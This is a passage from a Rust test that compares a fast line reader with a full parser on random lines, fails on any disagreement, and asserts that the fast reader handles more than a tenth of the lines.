                "fast reader and parser disagree on {line:?}"
            );
        }
    }
    eprintln!("the fast reader took {taken} of {compared} random lines");
    // The comparison is only worth something when the fast reader takes
    // a fair share of the lines.
    assert!(
        taken * 10 > compared,
        "the fast reader took only {taken} of {compared} random lines"
    );
}
